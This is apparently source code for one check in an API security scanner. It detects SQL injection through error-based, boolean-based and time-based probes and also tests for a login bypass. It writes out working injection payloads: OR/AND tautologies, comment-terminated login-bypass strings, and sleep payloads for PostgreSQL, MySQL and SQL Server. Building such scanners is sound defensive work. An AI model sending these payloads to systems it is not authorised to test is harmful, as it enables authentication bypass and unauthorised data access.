import { defineCheck } from '../check.js';
import { typeOf } from '../model/sample.js';
import type { Exchange, FindingDraft } from '../types.js';
import type { CheckContext } from '../engine/context.js';
import { loginRequest, loginTarget } from './login.js';
import { caller, hasInputs, inputsOf, is2xx, normalise, uniqueMarker, validRequest, type Input } from './util.js';

/**
 * Errors that an unbalanced quote causes in SQL text, and only that: type errors (a string bound to an integer
 * column) are not injection and are left to the robustness checks.
 */
const SYNTAX_ERRORS: ReadonlyArray<readonly [RegExp, string]> = [
  // Answers often carry the message JSON-encoded, so quotes may come escaped (\").
  [/unrecognized token: \\?"'|near \\?"[^"]*\\?": syntax error|incomplete input|unterminated quoted string/i, 'an SQLite syntax error'],
  [/You have an error in your SQL syntax|check the manual that corresponds to your (MySQL|MariaDB)/i, 'a MySQL syntax error'],
  [/unterminated quoted (string|identifier) at or near|syntax error at or near|syntax error at end of input/i, 'a PostgreSQL syntax error'],
  [/Unclosed quotation mark after the character string|Incorrect syntax near/i, 'an SQL Server syntax error'],
  [/ORA-01756|ORA-00933|quoted string not properly terminated/i, 'an Oracle syntax error'],
];

function sqlError(body: string): string | undefined {
  return SYNTAX_ERRORS.find(([re]) => re.test(body))?.[1];
}

/**
 * Two true and two false conditions in the same syntax. LIKE keeps them valid inside `= '…'` and `LIKE '%…%'`
 * alike; OR makes a true condition select everything, AND makes a false one select nothing.
 */
function families(p: Input): Array<{ readonly t: readonly [string, string]; readonly f: readonly [string, string] }> {
  const numeric = ['integer', 'number'].includes(typeOf(p.schema) ?? '');
  const out = [
    { t: [`' OR 'a' LIKE 'a`, `' OR 'b' LIKE 'b`], f: [`' OR 'a' LIKE 'b`, `' OR 'b' LIKE 'c`] },
    { t: [`' AND 'a' LIKE 'a`, `' AND 'b' LIKE 'b`], f: [`' AND 'a' LIKE 'b`, `' AND 'b' LIKE 'c`] },
  ] as const;
  const num = [
    { t: [' OR 1=1', ' OR 2=2'], f: [' OR 1=2', ' OR 2=3'] },
    { t: [' AND 1=1', ' AND 2=2'], f: [' AND 1=2', ' AND 2=3'] },
  ] as const;
  return numeric ? [...num, ...out] : [...out];
}

const sig = (ex: Exchange) => `${ex.response.status}\n${normalise(ex.response.body)}`;

/**
 * SQL injection (API8), two ways, both confirmed. Error-based: one quote produces an SQL syntax error that two
 * quotes (and the normal value) do not, twice. Boolean-based: two true and two false injected conditions in the same syntax; the answers
 * follow the truth of the condition and nothing else. Time-based (PostgreSQL, MySQL, SQL Server): a sleep, a
 * zero-second control and a repeat.
 */
export const sqlInjection = defineCheck({
  id: 'sql-injection',
  title: 'SQL injection',
  owasp: 'API8:2023',
  cwe: 89,
  severity: 'critical',
  description: 'Error-based and boolean-based (true/false twin) SQL injection probes on path and query parameters.',
  remediation: 'Use parameterised queries everywhere; never build SQL from request values.',
  scope: 'target',
  appliesTo: hasInputs,
  async run(ctx, ops) {
    const out: FindingDraft[] = [];
    const bypass = await loginBypass(ctx);
    if (bypass !== undefined) out.push(bypass);
    const who = caller(ctx);
    for (const op of ops) {
      const base = await validRequest(ctx, op, who);
      // Nothing is sent to an operation without inputs to probe: the baseline of a DELETE would delete.
      const inputs = inputsOf(ctx, op, base);
      if (inputs.length === 0) continue;
      const original = await ctx.client.send(base);
      if (sqlError(original.response.body) !== undefined) continue;
      for (const p of inputs) {
        const value = p.value;
        const send = (v: string) => ctx.client.send(p.build(v));
        const quoted = await send(`${value}'`);
        const err = sqlError(quoted.response.body);
        // Twin: two quotes (an escaped quote inside a string literal) must parse, or the quote is not the cause.
        const balanced = err !== undefined ? await send(`${value}''`) : undefined;
        if (err !== undefined && balanced !== undefined && sqlError(balanced.response.body) === undefined && sqlError((await send(`${value}'`)).response.body) === err) {
          out.push({ title: `SQL injection in "${p.name}" of ${op.id} (error-based)`, operation: op.id, key: p.name, detail: `A single quote in "${p.name}" produced ${err} (twice); two quotes and the unmodified request did not.`, evidence: [quoted, balanced], suggestion: { key: 'detection', value: { mode: 'block' }, note: 'attack detection blocks SQL injection on this route; fix the API too' } });
          continue;
        }
        let found = false;
        for (const fam of families(p)) {
          // The answer must follow the truth of the condition only: both true twins alike, both false twins
          // alike, true and false different. An echo of the input, or a literal search, cannot do that.
          const [t1, t2, f1, f2] = await Promise.all([...fam.t, ...fam.f].map((x) => send(value + x)));
          if (sig(t1!) === sig(f1!) || sig(t1!) !== sig(t2!) || sig(f1!) !== sig(f2!)) continue;
          if (!is2xx(t1!.response.status) && !is2xx(f1!.response.status)) continue;
          found = true;
          out.push({ title: `SQL injection in "${p.name}" of ${op.id} (boolean-based)`, operation: op.id, key: p.name, detail: `"${p.name}" with the injected conditions ${JSON.stringify(fam.t[0])} and ${JSON.stringify(fam.t[1])} (true) answers one way (HTTP ${t1!.response.status}), with ${JSON.stringify(fam.f[0])} and ${JSON.stringify(fam.f[1])} (false) another (HTTP ${f1!.response.status}): the value is evaluated as SQL.`, evidence: [t1!, f1!], suggestion: { key: 'detection', value: { mode: 'block' }, note: 'attack detection blocks SQL injection on this route; fix the API too' } });
          break;
        }
        if (!found) {
          const timed = await timeBased(send, value, p);
          if (timed !== undefined) out.push({ title: `SQL injection in "${p.name}" of ${op.id} (time-based)`, operation: op.id, key: p.name, detail: timed.detail, evidence: timed.evidence, suggestion: { key: 'detection', value: { mode: 'block' }, note: "attack detection blocks SQL injection on this route; fix the API too" } });
        }
      }
    }
    return out;
  },
});

/**
 * Login bypass: a wrong password is refused, the same wrong password with the user name closed by a quote and the
 * rest of the query commented out is accepted, and the twin without the quote is refused again.
 */
async function loginBypass(ctx: CheckContext): Promise<FindingDraft | undefined> {
  const t = loginTarget(ctx);
  if (t === undefined) return undefined;
  const user = String(t.login.body[t.userField]);
  const wrong = uniqueMarker('wrong-');
  const plain = await ctx.client.send(loginRequest(t, { [t.passwordField]: wrong }));
  if (is2xx(plain.response.status)) return undefined;
  for (const tail of ["' -- ", "'-- -", "' #", "')-- "]) {
    const inj = await ctx.client.send(loginRequest(t, { [t.userField]: user + tail, [t.passwordField]: wrong }));
    if (!is2xx(inj.response.status)) continue;
    const twin = await ctx.client.send(loginRequest(t, { [t.userField]: user + tail.replace(/'/g, ''), [t.passwordField]: wrong }));
    if (is2xx(twin.response.status)) continue;
    return {
      title: `SQL injection in the login "${t.userField}" bypasses the password`,
      operation: `${t.login.method} ${t.login.path}`,
      key: `login:${t.userField}`,
      detail: `A wrong password is refused (HTTP ${plain.response.status}); with "${t.userField}" set to ${JSON.stringify(user + tail)} the same wrong password logs in (HTTP ${inj.response.status}), and without the quote it is refused again (HTTP ${twin.response.status}).`,
      evidence: [inj, plain, twin],
      suggestion: { key: 'detection', value: { mode: 'block' }, note: "attack detection blocks SQL injection on this route; fix the API too" },
    };
  }
  return undefined;
}

const DELAY_S = 2;
/** Sleeps for PostgreSQL (sub-query and stacked), MySQL and SQL Server; `%` is the delay. */
const SLEEPS = ['OR 1=(SELECT 1 FROM pg_sleep(%))-- ', '; SELECT pg_sleep(%)-- ', 'OR (SELECT 1 FROM (SELECT SLEEP(%))a)-- ', "; WAITFOR DELAY '0:0:%'-- "];

/**
 * Time-based, only when confirmed by repetition: the sleep payload is slow, the same payload sleeping 0 seconds
 * is fast, and the sleep payload is slow again. A target that answers fast costs one request per payload.
 */
async function timeBased(send: (v: string) => Promise<Exchange>, value: string, p: Input): Promise<{ detail: string; evidence: Exchange[] } | undefined> {
  const numeric = ['integer', 'number'].includes(typeOf(p.schema) ?? '');
  const slowMs = DELAY_S * 1000 * 0.9;
  for (const sleep of SLEEPS) {
    const payload = (d: number) => `${value}${numeric ? ' ' : "' "}${sleep.replace('%', String(d))}`.replace(" ';", "';").replace(' ;', ';');
    const slow = await send(payload(DELAY_S));
    if (slow.response.durationMs < slowMs) continue;
    const control = await send(payload(0));
    if (slow.response.durationMs - control.response.durationMs < DELAY_S * 1000 * 0.75) continue;
    const again = await send(payload(DELAY_S));
    if (again.response.durationMs < slowMs) continue;
    return {
      detail: `"${p.name}"=${JSON.stringify(payload(DELAY_S))} took ${slow.response.durationMs} and ${again.response.durationMs} ms; the same with a 0-second sleep took ${control.response.durationMs} ms.`,
      evidence: [slow, control, again],
    };
  }
  return undefined;
}
